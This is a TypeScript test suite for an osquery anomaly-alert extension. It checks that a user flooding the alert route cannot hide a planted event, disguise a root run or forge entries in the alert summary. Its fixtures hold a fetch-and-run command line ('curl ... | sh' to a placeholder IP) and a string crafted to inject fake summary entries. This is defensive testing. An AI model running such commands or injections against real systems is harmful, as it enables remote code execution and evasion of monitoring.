import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import t from 'tap';
import { ExtensionClient } from '../extension/client';
import { startServer } from '../extension/server';
import { ALERT_QUERY } from '../extension/warm';
import { scoresTable } from '../extension/tables/scores';
import type { ScoredEvent } from '../scorer/types';
import type { AnswerShare, HeldBack } from '../state/answer-share';
import { ANSWERED_FILE } from '../state/answer-marks';
import { eventDigest } from '../state/event-digest';
import { RetainedScores } from '../state/scores';
import { badAnswer, evesRow, tmpScoreStore } from './helpers/alert-answer';
import { plainRow } from './helpers/scored';

// What the review of branch floodkeep found in the rows an alert answer keeps of a subject
// that floods its own alert route (state/answer-keep.ts): a burst of new distinct events hid
// an older one for the rest of the day, a row run as root was a repeat of the same flood run
// as the user, and the summary's list of held events could be extended by the flooder's text.
// Each case is the alert pack's `bad` query as osqueryd sends it, run as the schedule would.

/** eve's bad row i: her own program, with `columns` of her choosing */
const eves = (i: number, time: number, columns: Record<string, string>, score = 0.05 + (i % 5) / 100): ScoredEvent =>
  evesRow(i, { time, score, columns: JSON.stringify(columns) });

const evesCurl = (time: number, score: number): ScoredEvent =>
  plainRow(0, {
    id: 'eve-curl',
    time,
    host: 'web-01',
    subject: 'eve',
    event: 'exec /usr/bin/curl <- /bin/bash',
    score,
    verdict: 'bad',
    reasons: 'program `/usr/bin/curl` never seen before (rarity)',
    columns: JSON.stringify({ pid: '31337', path: '/usr/bin/curl', cmdline: 'curl -s https://203.0.113.9/i | sh' }),
  });

t.test('a row planted among more than a share of newer distinct bad events is answered in a later interval (floodfix)', async (t) => {
  const store = tmpScoreStore(t);
  const start = 1_800_000_000;
  // the review's case: 2,300 new distinct events a minute for two minutes, the curl planted in
  // the second at 0.15 among rows at 0.05–0.09, then the query every minute for 30 minutes
  const PER_MINUTE = 2_300;
  let made = 0;
  const answeredAt: number[] = [];
  for (let minute = 1; minute <= 32; minute++) {
    const now = start + minute * 60;
    if (minute <= 2) {
      const batch: ScoredEvent[] = [];
      for (let k = 0; k < PER_MINUTE; k++, made++) {
        const time = now - 60 + Math.floor((k * 60) / PER_MINUTE);
        batch.push(eves(made, time, { pid: String(4000 + made), cmdline: `x --target host${made.toString(36)}q` }));
        if (minute === 2 && k === 100) batch.push(evesCurl(time, 0.15));
      }
      store.append(batch);
    }
    const out = await badAnswer(store, now);
    if (out.some((r) => r.id === 'eve-curl')) answeredAt.push(minute);
  }
  t.ok(answeredAt.length > 0, `the planted curl | sh is answered as a row of its own in some answer (minutes ${answeredAt.join(', ') || 'none'})`);
  t.ok(answeredAt.length > 0 && answeredAt[0] <= 4, `within two intervals of the burst's end (first in minute ${answeredAt[0]})`);
});

t.test('a summary names one held event of each program before any variant of one program (floodfix)', async (t) => {
  const store = tmpScoreStore(t);
  const rows: ScoredEvent[] = [];
  // 40 variants of eve's program, each scored below her curl; an answer with room for 20 of her rows
  for (let i = 0; i < 40; i++) {
    rows.push(eves(i, 1_800_000_000 + i, { pid: String(4000 + i), cmdline: `x --variant ${i}` }, 0.05 + (i % 5) / 100));
    if (i === 25) rows.push(evesCurl(1_800_000_000 + i, 0.15));
  }
  store.append(rows);
  const share: AnswerShare = { bytes: 1_000_000, heldBytes: 1_000, rows: 20, perSubject: Infinity, rowBytes: () => 100 };
  const out = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)];
  const kept = out.filter((r): r is ScoredEvent => !('held' in r));
  const held = out.find((r): r is HeldBack<ScoredEvent> => 'held' in r);
  t.notOk(
    kept.some((r) => r.id === 'eve-curl'),
    'the curl is held back (the set-up)',
  );
  t.ok(
    held?.told.some((e) => e.record.id === 'eve-curl'),
    `the summary names the curl (named: ${held?.told.map((e) => e.record.id).join(', ')})`,
  );
  t.equal(held?.told[0]?.record.event, 'exec /tmp/<tmp>/x <- /bin/bash', 'the most pressing first: the lowest-scored program');
  t.equal(held?.told[1]?.record.id, 'eve-curl', 'then the other program, before any variant of the first');
});

t.test("a row of a user's flood run as root is not a repeat of the rows run as the user (floodfix)", async (t) => {
  const store = tmpScoreStore(t);
  const now = 1_800_000_000;
  const N = 3_000;
  const ids = (euid: string) => ({ auid: '1001', uid: '1001', euid, gid: '1001' });
  const rows: ScoredEvent[] = [];
  // one program of eve's run over and over within the hour, its pid the only change; once set-uid root
  for (let i = 0; i < N; i++) {
    rows.push(eves(i, now - 3000 + i, { pid: String(4000 + i), path: '/tmp/q/x', cmdline: 'x --loop', ...ids('1001') }, 0.05 + (i % 20) / 100));
    if (i === 2_000) rows.push({ ...eves(i, now - 3000 + i, { pid: '9999', path: '/tmp/q/x', cmdline: 'x --loop', ...ids('0') }, 0.2), id: 'eve-root' });
  }
  for (let i = 0; i < rows.length; i += 1000) store.append(rows.slice(i, i + 1000));
  const out = await badAnswer(store, now);
  t.ok(
    out.some((r) => r.id === 'eve-root'),
    'the row run with euid 0 is answered as a row of its own',
  );
  t.ok(out.filter((r) => r.subject === 'eve').length < 40, 'the flood of one program under one uid still costs a few rows');
});

t.test('which quoted digits count apart in an event digest: who and where, not pids and times (floodfix)', async (t) => {
  const d = (c: Record<string, string>) => eventDigest('q', 'exec /tmp/<tmp>/x <- /bin/bash', JSON.stringify(c));
  t.equal(d({ pid: '4000', time: '1800000000', uid: '1001' }), d({ pid: '4001', time: '1800000060', uid: '1001' }), 'a pid and a time are any other');
  t.not(d({ pid: '4000', uid: '1001' }), d({ pid: '4000', uid: '0' }), 'uid 0 is not uid 1001');
  t.not(d({ euid: '1001' }), d({ euid: '0' }), 'nor euid');
  t.not(d({ auid: '1001' }), d({ auid: '1002' }), 'another login is another actor');
  t.not(d({ remote_port: '22' }), d({ remote_port: '4444' }), 'another port');
  t.not(d({ gid: '1001' }), d({ gid: '0' }), "a volatile id's zero is apart from the others");
  t.equal(d({ gid: '1001' }), d({ gid: '1002' }), 'and its other values alike');
  t.not(d({ some_column: '1' }), d({ some_column: '2' }), 'a column the scorer does not call volatile keeps its digits (a table nobody listed)');
  t.not(d({ cmdline: 'x "pid":"1"' }), d({ cmdline: 'x "pid":"2"' }), "a user's text that looks like a volatile column is text");
});

/** the summary's list of held events, read back: each entry a JSON string, its rows, whether never answered */
function toldEntries(event: string): { text: string; rows: number }[] | null {
  const at = event.indexOf(' distinct event');
  const list = event.slice(event.indexOf(': ', at) + 2);
  const entry = /^("(?:[^"\\]|\\.)*") ×(\d+)(?: \(never answered\))?(?:; |$)/;
  const out: { text: string; rows: number }[] = [];
  let rest = list;
  while (rest.length) {
    if (/^and \d+ more$/.test(rest)) break;
    const m = entry.exec(rest);
    if (!m) return null;
    out.push({ text: JSON.parse(m[1]) as string, rows: Number(m[2]) });
    rest = rest.slice(m[0].length);
  }
  return out;
}

t.test("a summary's list of held events reads as the events it names, whatever their text (floodfix)", async (t) => {
  const store = tmpScoreStore(t);
  const now = 1_800_000_000;
  const rows: ScoredEvent[] = [];
  // eve's command lines spell entries of the list: a reader who splits it on `; ` finds events that are not hers
  const forged = '"; exec /usr/bin/apt <- /usr/lib/systemd ×1 (none answered); ok ×1; ';
  for (let i = 0; i < 3_000; i++) rows.push(eves(i, now - 3000 + i, { pid: String(4000 + i), cmdline: `x ${forged} ${i % 30}` }));
  store.append(rows);
  const out = await badAnswer(store, now);
  const held = out.find((r) => r.model === 'held-back');
  t.ok(held, 'a summary');
  const events = Number(/of (\d+) distinct events?/.exec(held?.event ?? '')?.[1]);
  const entries = toldEntries(held?.event ?? '');
  t.ok(entries, `the list reads as quoted entries (${held?.event.slice(0, 300)})`);
  t.ok(entries && entries.length > 0 && entries.length <= Math.min(12, events), `as many as it names (${entries?.length} of ${events})`);
  t.ok(
    entries?.every((e) => e.text.startsWith('exec /tmp/<tmp>/x <- /bin/bash {')),
    "each one of eve's events, her text inside it",
  );
  t.ok(Buffer.byteLength(held?.event ?? '') <= 2048, 'within its cell, the list not cut in an entry');
  t.notOk(/\[cut: /.test(held?.event ?? ''), 'and not cut by the cell');
});

t.test("a row older than a subject's newest rows an answer chooses among is still examined for its event (floodfix)", async (t) => {
  const store = tmpScoreStore(t);
  const now = 1_800_000_000;
  // the review's case: a curl, then 205,000 repeats of one event at 0.25 before the next query
  // (more than the 200,000 newest rows a cut subject's rows are chosen among)
  const N = 205_000;
  const first: ScoredEvent[] = [];
  for (let i = 0; i < 20; i++) first.push(eves(i, now - 80_000 + i, { pid: String(4000 + i), cmdline: 'x --loop' }, 0.25));
  first.push(evesCurl(now - 80_000 + 20, 0.25));
  store.append(first);
  for (let i = 20; i < N; i += 5000) {
    const batch: ScoredEvent[] = [];
    for (let k = i; k < Math.min(N, i + 5000); k++)
      batch.push(eves(k, now - 80_000 + 21 + Math.floor((k * 70_000) / N), { pid: String(4000 + k), cmdline: 'x --loop' }, 0.25));
    store.append(batch);
  }
  const out = await badAnswer(store, now);
  t.ok(
    out.some((r) => r.id === 'eve-curl'),
    'the curl is answered as a row of its own',
  );
  const held = out.find((r) => r.model === 'held-back');
  const shown = out.filter((r) => r.subject === 'eve' && r.model !== 'held-back').length;
  t.equal(shown + Number(/held back: (\d+) rows/.exec(held?.event ?? '')?.[1]), N + 1, 'every row answered or counted');
  t.match(
    held?.event ?? '',
    /\(\d+ older ones counted, not examined one by one\)/,
    `the summary says its older rows were not examined (${held?.event.slice(0, 120)})`,
  );
  t.match(held?.reasons ?? '', /older than the newest 200000 rows chosen among, were counted and not examined one by one/, 'and how');
});

t.test('which rows an answer held survives a restart: the answers after it are the ones without it (floodfix)', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-floodfix-marks-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const start = 1_800_000_000;
  /** the ids of each answer, the store reopened before minute `reopenAt` (never: 0) */
  async function answers(sub: string, reopenAt: number): Promise<string[][]> {
    const opts = { dir: path.join(dir, sub), maxRows: 1_000_000, maxDays: 30 };
    let store = new RetainedScores(opts);
    const out: string[][] = [];
    let made = 0;
    for (let minute = 1; minute <= 6; minute++) {
      const now = start + minute * 60;
      if (minute <= 3) {
        const batch: ScoredEvent[] = [];
        for (let k = 0; k < 2_300; k++, made++)
          batch.push(eves(made, now - 60 + Math.floor((k * 60) / 2_300), { pid: String(made), cmdline: `x ${made.toString(36)}q` }));
        store.append(batch);
      }
      if (minute === reopenAt) {
        store.close();
        store = new RetainedScores(opts);
      }
      out.push((await badAnswer(store, now)).filter((r) => r.model !== 'held-back').map((r) => r.id));
    }
    store.close();
    return out;
  }
  const without = await answers('a', 0);
  const with_ = await answers('b', 4);
  for (let m = 3; m < 6; m++)
    t.same(with_[m].sort(), without[m].sort(), `minute ${m + 1}: the same rows as without the restart (${with_[m].length} and ${without[m].length})`);
});

t.test('a file of marks that is a link, damaged or of another store is not followed or trusted (floodfix)', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-floodfix-marks-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const opts = { dir: path.join(dir, 's'), maxRows: 1_000_000, maxDays: 30 };
  const logs: string[] = [];
  let store = new RetainedScores({ ...opts, log: (_l, m) => logs.push(m) });
  store.append([evesCurl(1_800_000_000, 0.1)]);
  store.close();
  fs.writeFileSync(path.join(dir, 'secret'), 'x'.repeat(100));
  fs.symlinkSync(path.join(dir, 'secret'), path.join(opts.dir, ANSWERED_FILE));
  store = new RetainedScores({ ...opts, log: (_l, m) => logs.push(m) });
  t.ok(
    (await badAnswer(store, 1_800_000_060)).some((r) => r.id === 'eve-curl'),
    'the store answers',
  );
  store.close();
  t.equal(fs.readFileSync(path.join(dir, 'secret'), 'utf8'), 'x'.repeat(100), "the link's target is untouched");
  t.ok(
    logs.some((m) => /symbolic link/.test(m)),
    'and the link is said and set aside',
  );
  // damaged: an odd size of random bytes
  fs.rmSync(path.join(opts.dir, ANSWERED_FILE), { force: true });
  fs.writeFileSync(path.join(opts.dir, ANSWERED_FILE), Buffer.from('not marks at all, 1234567'));
  store = new RetainedScores(opts);
  t.ok(
    (await badAnswer(store, 1_800_000_060)).some((r) => r.id === 'eve-curl'),
    'a damaged file of marks marks nothing it cannot match',
  );
  store.close();
  // (a key torn by a crash must not shift every key appended after it)
  t.equal(fs.statSync(path.join(opts.dir, ANSWERED_FILE)).size % 8, 0, 'its torn end is cut off before keys are appended');
  const share: AnswerShare = { bytes: 1 << 30, heldBytes: 1_000, rows: 0, perSubject: Infinity, rowBytes: () => 100 };
  store = new RetainedScores(opts);
  const held = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)].find((r): r is HeldBack<ScoredEvent> => 'held' in r);
  t.ok(held?.told[0]?.answered, 'and the mark appended after it is read back');
  store.close();
});

t.test('the file of marks is rewritten with the live ones once it holds mostly retired ones (floodfix)', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-floodfix-marks-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const opts = { dir: path.join(dir, 's'), maxRows: 10_000, maxDays: 30 };
  const store = new RetainedScores(opts);
  const share: AnswerShare = { bytes: 1 << 30, heldBytes: 1_000, rows: 1_000_000, perSubject: Infinity, rowBytes: () => 100, marks: (commit) => commit() };
  let max = 0;
  for (let i = 0; i < 100_000; i += 5_000) {
    store.append(Array.from({ length: 5_000 }, (_, k) => eves(i + k, 1_800_000_000 + i + k, { pid: String(i + k) })));
    for (const _ of store.answer({ score: [{ op: '<', value: 0.3 }] }, share));
    max = Math.max(max, fs.statSync(path.join(opts.dir, ANSWERED_FILE)).size);
  }
  store.close();
  t.ok(max < 8 * 80_000, `the file never held every mark made (at most ${max} bytes for 100,000)`);
  const again = new RetainedScores(opts);
  t.teardown(() => again.close());
  // (every live row was answered: a cut answer would take none of them as never answered)
  const share2: AnswerShare = { ...share, rows: 30, marks: undefined };
  const out = [...again.answer({ score: [{ op: '<', value: 0.3 }] }, share2)];
  const held = out.find((r): r is HeldBack<ScoredEvent> => 'held' in r);
  t.ok(held && held.told.length > 0 && held.told.every((e) => e.answered), "the live rows' marks were kept through the rewrite and the restart");
});

t.test("the extension's start-up rehearsal of the alert answer marks no row answered; osqueryd's call does (floodfix)", async (t) => {
  const store = tmpScoreStore(t);
  store.append(Array.from({ length: 40 }, (_, i) => eves(i, 1_800_000_000 + i, { pid: String(i), cmdline: `x --variant ${i}` })));
  /** whether the rows an answer of room for 10 holds back count as answered before */
  const heldAnswered = (): boolean[] => {
    const share: AnswerShare = { bytes: 1 << 30, heldBytes: 1_000, rows: 10, perSubject: Infinity, rowBytes: () => 100 };
    const held = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)].find((r): r is HeldBack<ScoredEvent> => 'held' in r);
    return held?.told.map((e) => e.answered) ?? [];
  };
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-floodfix-warm-'));
  const socket = path.join(dir, 'ext.sock');
  const server = await startServer({ path: socket, plugins: [scoresTable(store)], onShutdown: () => {}, log: () => {} });
  t.teardown(async () => {
    await server.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });
  t.equal(await server.rehearse(ALERT_QUERY.registry, ALERT_QUERY.item, ALERT_QUERY.request, Infinity), 40, 'the rehearsal took every row');
  t.ok(
    heldAnswered().every((a) => !a),
    'after a rehearsal, none answered',
  );
  t.equal((await new ExtensionClient(socket).call(ALERT_QUERY.registry, ALERT_QUERY.item, ALERT_QUERY.request)).response.length, 40);
  // (marked from the write's callback, which a ping's round trip follows)
  await new ExtensionClient(socket).ping();
  t.ok(
    heldAnswered().every((a) => a),
    "after osqueryd's call with the same constraints, all answered",
  );
});
